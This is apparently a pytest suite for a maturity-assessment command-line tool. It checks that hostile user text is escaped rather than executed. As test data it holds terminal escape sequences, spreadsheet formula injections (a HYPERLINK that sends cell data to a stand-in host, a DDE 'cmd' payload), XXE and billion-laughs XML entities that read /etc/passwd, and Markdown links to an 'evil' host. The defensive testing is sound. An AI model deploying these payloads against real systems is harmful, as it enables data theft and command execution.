"""User text that tries to act as code: terminal escapes, spreadsheet formulas, Markdown, XML entities."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from maturity.cli import app
from maturity.errors import ExitCode
from maturity.questionnaire import Questionnaire
from maturity.schema.base import EnterpriseType, Profile
from maturity.text import first_control, printable
from tests.conftest import REPO, write_yaml


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("ACME\x1b[2J Level 5", "ACME\\x1b[2J Level 5"),
        ("a\rb\x00c\x7fd\x9be", "a\\x0db\\x00c\\x7fd\\x9be"),
        ("evil\u202etxt.exe", "evil\\u202etxt.exe"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("企业名称（有限公司）", "企业名称（有限公司）"),
        ("\udcbd\udcad.yaml", "\\xbd\\xad.yaml"),  # a GBK file name's bytes (surrogateescape)
        ("one\u2028two\u2029three", "one\\u2028two\\u2029three"),  # separators break terminal lines
    ],
)
def test_printable_makes_control_characters_visible(raw: str, shown: str) -> None:
    assert printable(raw) == shown


@pytest.mark.parametrize(
    ("text", "bad"),
    [
        ("ACME Ltd", False),
        ("上海（集团）", False),
        ("a\x1bb", True),
        ("a\nb", True),
        ("a\tb", True),
        ("a\u2066b", True),
        ("a\x85b", True),
        ("a\u2028b", True),
        ("Good\u00adAssessor", True),  # invisible: a signed name shows what it is
        ("A\u034fB", True),
        ("\u3164Boss", True),
    ],
)
def test_signed_names_refuse_controls_newline_tab_and_invisibles(text: str, bad: bool) -> None:
    assert (first_control(text) is not None) is bad


# --- spreadsheets: text stays text -------------------------------------------------------------

FORMULA = '=HYPERLINK("http://x/?"&A2,"x")'


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(
        app, list(args), env={"COLUMNS": "200"}
    )  # wide enough for a name in a table
    return result.exit_code, result.stdout, result.stderr


def sample(folder: Path, name: str, organisation: str, **fields: str) -> Path:
    data = yaml.safe_load(
        (REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8")
    )
    data["organisation"].update(name=organisation, **fields)
    return write_yaml(folder / name, data)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    sample(folder, "a.yaml", FORMULA, industry="+cmd|' /C calc'!A0", region="@SUM(1+1)")
    sample(folder, "b.yaml", "ACME\x1b[2J Level 5", industry="-2+3")
    sample(folder, "c.yaml", "#N/A", industry="\tTabbed")
    (folder / "=cmd.yaml").write_text(
        "answers: [\n", encoding="utf-8"
    )  # fails: its name goes onto the failures sheet
    return folder


def test_xlsx_keeps_formula_like_text_as_text_and_escapes_control_characters(
    hostile: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "scores.xlsx"
    code, _, _ = invoke("score", str(hostile), "-f", "xlsx", "-o", str(out), "--jobs", "1")
    assert (
        code == ExitCode.PARTIAL
    )  # the one broken file; the ESC in a name no longer aborts the batch
    book = load_workbook(out)
    results, failures = book["Results"], book["Failures"]
    cells = {row[1].value: row for row in results.iter_rows(min_row=2)}
    assert set(cells) == {FORMULA, "ACME\\x1b[2J Level 5", "#N/A"}
    for row in results.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
    assert [c.value for c in cells[FORMULA][3:5]] == ["+cmd|' /C calc'!A0", "@SUM(1+1)"]
    assert cells[FORMULA][1].quotePrefix and not cells["#N/A"][1].quotePrefix
    assert isinstance(
        cells[FORMULA][
            results[1].index(next(c for c in results[1] if c.value == "Total score"))
        ].value,
        float,
    )
    failed = failures[2][0]
    assert failed.value == str(hostile / "=cmd.yaml") and failed.data_type == "s"


def test_xlsx_raw_xml_holds_no_formula(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "scores.xlsx"
    code, _, _ = invoke(
        "score", str(hostile / "a.yaml"), str(hostile / "c.yaml"), "-f", "xlsx", "-o", str(out)
    )
    assert code == ExitCode.OK
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in xml or b't="e"' in xml for xml in sheets)


def test_csv_defuses_formula_starts_but_leaves_numbers_alone(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "scores.csv"
    code, _, _ = invoke("score", str(hostile), "-f", "csv", "-o", str(out), "--jobs", "1")
    assert code == ExitCode.PARTIAL
    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
    a, b, c = (rows[str(hostile / n)] for n in ("a.yaml", "b.yaml", "c.yaml"))
    assert (a["organisation"], a["industry"], a["region"]) == (
        "'" + FORMULA,
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
    )
    assert (b["organisation"], b["industry"]) == ("ACME\\x1b[2J Level 5", "'-2+3")
    assert (c["organisation"], c["industry"]) == ("#N/A", "'\tTabbed")
    assert float(a["score"]) > 0 and a["level"] == "2"  # numbers are written as they were


def test_answer_workbook_text_starting_with_a_formula_sign_reads_back_as_it_was(
    cmmm: Questionnaire, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    from maturity.excel import blank_workbook, read_workbook
    from maturity.excel.cells import set_value

    wb = load_workbook(
        io.BytesIO(blank_workbook(cmmm, "en", EnterpriseType.discrete, dt.date(2026, 11, 20)))
    )
    profile, answers = wb["Profile"], wb["Answers"]
    set_value(
        profile["B2"], FORMULA
    )  # as Excel stores what is typed into a text cell: a string, not a formula
    set_value(answers["F2"], "full")
    set_value(answers["H2"], "=1+1 is what we wrote")
    path = tmp_path / "answers.xlsx"
    wb.save(path)
    doc = read_workbook(path.read_bytes(), "answers.xlsx")
    item = next(iter(cmmm.item_ids(Profile.discrete)))
    assert doc.data["organisation"]["name"] == FORMULA
    assert doc.data["answers"][item] == {"rating": "full", "note": "=1+1 is what we wrote"}
    out = tmp_path / "scores.xlsx"
    code, _, _ = invoke("score", str(path), "-f", "xlsx", "-o", str(out))
    assert code == ExitCode.OK
    cell = load_workbook(out)["Results"]["B2"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


# --- the terminal: control characters are shown, never obeyed ----------------------------------


def squash(table: str) -> str:
    """A table's text without borders and white space: a folded cell reads as one piece."""
    return re.sub(r"[\s│┃]", "", table)


ESCAPE = "ACME\x1b[2J\x1b[H Level 5"


def test_score_table_shows_an_escape_in_the_organisation_name_instead_of_obeying_it(
    tmp_path: Path,
) -> None:
    path = sample(tmp_path, "a.yaml", ESCAPE)
    code, out, _ = invoke("score", str(path))
    assert code == ExitCode.OK
    assert "\x1b" not in out
    assert "ACME\\x1b[2J\\x1b[H Level 5" in out


def test_batch_table_shows_escapes_in_names(tmp_path: Path) -> None:
    sample(tmp_path, "a.yaml", ESCAPE)
    code, out, _ = invoke("score", str(tmp_path), "-f", "table")
    assert code == ExitCode.OK
    assert "\x1b" not in out and "ACME\\x1b[2J\\x1b[H Level 5" in out


def test_error_messages_show_escapes_in_what_the_user_wrote(tmp_path: Path) -> None:
    data = yaml.safe_load(
        (REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8")
    )
    data["answers"]["strategy.9.\x1b[2J"] = "full"
    path = write_yaml(tmp_path / "a.yaml", data)
    code, _, err = invoke("validate", str(path))
    assert code == ExitCode.INPUT
    assert "\x1b" not in err and "strategy.9.\\x1b[2J" in err


CONTROLS = "Org\x07B\x08C\x0bD\x0cE\rF\x1b]0;PWN\x07"  # rich's Text drops BEL, BS, VT, FF, CR
SHOWN = "Org\\x07B\\x08C\\x0bD\\x0cE\\x0dF\\x1b]0;PWN\\x07"


def test_compare_trend_and_benchmark_show_every_control_character(tmp_path: Path) -> None:
    old = sample(tmp_path, "old.yaml", CONTROLS)
    new = sample(tmp_path, "new.yaml", CONTROLS)
    other = sample(tmp_path, "other.yaml", "Other")
    peers = tmp_path / "peers"
    peers.mkdir()
    for n in range(6):  # the organisation and 5 others: a cohort large enough to be shown
        sample(peers, f"p{n}.yaml", f"{CONTROLS}{n}")
    runs = {
        "compare": invoke("compare", str(old), str(new)),  # the headline
        "compare-warning": invoke("compare", str(old), str(other)),  # the warning names both
        "trend-warning": invoke("trend", str(old), str(other)),
        "benchmark": invoke(
            "benchmark", str(peers), "--by", "all", "--org", str(peers / "p1.yaml")
        ),
    }
    for name, (code, out, err) in runs.items():
        assert code == ExitCode.OK, (name, err)
        assert not any(c in out + err for c in "\x07\x08\x0b\x0c\r\x1b"), name
        assert SHOWN in squash(out + err), name


@pytest.mark.parametrize("which", ["stdout", "stderr", "interview"])
def test_every_console_makes_control_characters_visible(which: str) -> None:
    from rich.table import Table
    from rich.text import Text

    from maturity.cli.app import err_console, out_console

    console = {
        "stdout": out_console(),
        "stderr": err_console(),
        "interview": out_console(markup=True),
    }[which]
    table = Table("check", "message")  # as verify shows a certificate's subject
    table.add_row(Text("✓"), "signed by CN=\x1b]0;pwned\x07 Trusted CA")
    with console.capture() as captured:
        console.print(table)
        console.print(Text("erase \x1b[2K and \x9b2J"))  # rich text built by a command, not a str
    shown = captured.get()
    assert not any(c in shown for c in "\x1b\x07\x9b")
    assert "signed by CN=\\x1b]0;pwned\\x07 Trusted CA" in shown
    assert "erase \\x1b[2K and \\x9b2J" in shown


# --- answer workbooks: no XML entities ---------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
    + "]>"
)
XXE = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def _with_profile_xml(
    cmmm: Questionnaire, change: Callable[[str], str], encoding: str = "utf-8"
) -> bytes:
    """A blank workbook whose profile sheet XML is rewritten by ``change``."""
    from maturity.excel import blank_workbook

    raw = blank_workbook(cmmm, "en", EnterpriseType.discrete, dt.date(2026, 11, 20))
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(raw)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet2.xml":
                data = change(data.decode("utf-8")).encode(encoding)
            dst.writestr(info, data)
    return out.getvalue()


def _entity_in_name(dtd: str, ref: str) -> Callable[[str], str]:
    def change(xml: str) -> str:
        name = f'<c r="B2" t="inlineStr"><is><t>{ref}</t></is></c>'
        return dtd + re.sub(r'<c r="B2"[^>]*>(</c>)?', name, xml, count=1)

    return change


@pytest.mark.parametrize(
    ("dtd", "ref", "encoding"),
    [(LAUGHS, "&j;", "utf-8"), (XXE, "&x;", "utf-8"), (LAUGHS, "&j;", "utf-16")],
    ids=["billion-laughs", "xxe", "utf-16"],
)
def test_answer_workbook_with_a_dtd_is_refused_with_exit_2(
    cmmm: Questionnaire, tmp_path: Path, dtd: str, ref: str, encoding: str
) -> None:
    change = _entity_in_name(dtd, ref)
    if encoding == "utf-16":
        change = _entity_in_name('<?xml version="1.0" encoding="UTF-16"?>' + dtd, ref)
    path = tmp_path / "answers.xlsx"
    path.write_bytes(_with_profile_xml(cmmm, change, encoding))
    code, _, err = invoke("validate", str(path))
    assert code == ExitCode.INPUT
    assert err.startswith(
        f"error: {path}: the workbook part xl/worksheets/sheet2.xml holds an XML document type declaration (DOCTYPE/ENTITY)."
    )
    assert "Traceback" not in err


def test_answer_workbook_with_broken_sheet_xml_is_bad_input_not_a_crash(
    cmmm: Questionnaire, tmp_path: Path
) -> None:
    path = tmp_path / "answers.xlsx"
    path.write_bytes(
        _with_profile_xml(cmmm, lambda xml: xml.replace("</sheetData>", "<row></sheetData>"))
    )
    code, _, err = invoke("validate", str(path))
    assert code == ExitCode.INPUT
    assert err.startswith(
        f"error: {path}: this is not a readable Excel workbook (.xlsx): ParseError: mismatched tag"
    )


# --- Markdown reports: user text is text ----------------------------------------------------------

NOTE = "see ![x](http://evil/p.png)\n\n## Maturity level: 5\n\n[click](http://evil/) *bold* `code`"


def test_markdown_report_escapes_user_text(tmp_path: Path) -> None:
    data = yaml.safe_load(
        (REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8")
    )
    data["organisation"]["name"] = "Evil | Co\n# Level 5 ![a](http://evil/a.png)"
    data["assessment"]["assessor"]["name"] = "A|B\nC"
    data["answers"]["strategy.1.01"] = {
        "rating": "partial",
        "note": NOTE,
        "evidence": ["![e](http://evil/e.png)", "plan\n- forged item"],
    }
    data["answers"]["strategy.1.02"] = {
        "rating": "na",
        "reason": "none\n\n### Maturity level: 5 <img src=http://evil/i.png>",
    }
    path = write_yaml(tmp_path / "a.yaml", data)
    out = tmp_path / "r.md"
    code, _, err = invoke("report", str(path), "-o", str(out), "--lang", "en")
    assert code == ExitCode.OK, err
    md = out.read_text(encoding="utf-8")
    assert "](http://evil" not in md.replace(
        "\\](http://evil", ""
    )  # no image or link survives unescaped
    assert not re.search(r"^#+ .*Level 5|^#+ Maturity level|^- forged", md, re.MULTILINE)
    assert "| Organisation | Evil \\| Co # Level 5 !\\[a\\](http://evil/a.png) |" in md
    assert "| Assessor | A\\|B C |" in md
    assert (
        "Note: see !\\[x\\](http://evil/p.png) ## Maturity level: 5 \\[click\\](http://evil/) \\*bold\\* \\`code\\`"
        in md
    )
    assert "!\\[e\\](http://evil/e.png); plan - forged item" in md
    assert "Reason: none ### Maturity level: 5 &lt;img src=http://evil/i.png&gt;" in md


def test_blank_workbook_writes_questionnaire_texts_as_text(tmp_path: Path) -> None:
    """A questionnaire from a --questionnaires folder is someone else's text too."""
    import shutil

    from openpyxl import load_workbook

    from maturity.excel import blank_workbook
    from maturity.questionnaire import load_questionnaire
    from tests.conftest import MINI

    shutil.copytree(MINI, tmp_path / "mini")
    path = tmp_path / "mini" / "subdomains" / "a.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace(
            "en: Question a.1.01?", 'en: \'=HYPERLINK("http://x/","q")\''
        ),
        encoding="utf-8",
    )
    raw = blank_workbook(
        load_questionnaire(tmp_path / "mini"), "en", EnterpriseType.discrete, dt.date(2026, 11, 20)
    )
    cell = load_workbook(io.BytesIO(raw))["Answers"]["D2"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://x/","q")', "s")


def test_dtd_message_in_chinese() -> None:
    from maturity.errors import Problem

    problem = Problem("excel.xml_dtd", {"part": "xl/worksheets/sheet2.xml"}, file="答卷.xlsx")
    assert problem.text("zh").startswith(
        "工作簿中的部件 xl/worksheets/sheet2.xml 含有 XML 文档类型声明（DOCTYPE/ENTITY）。"
    )
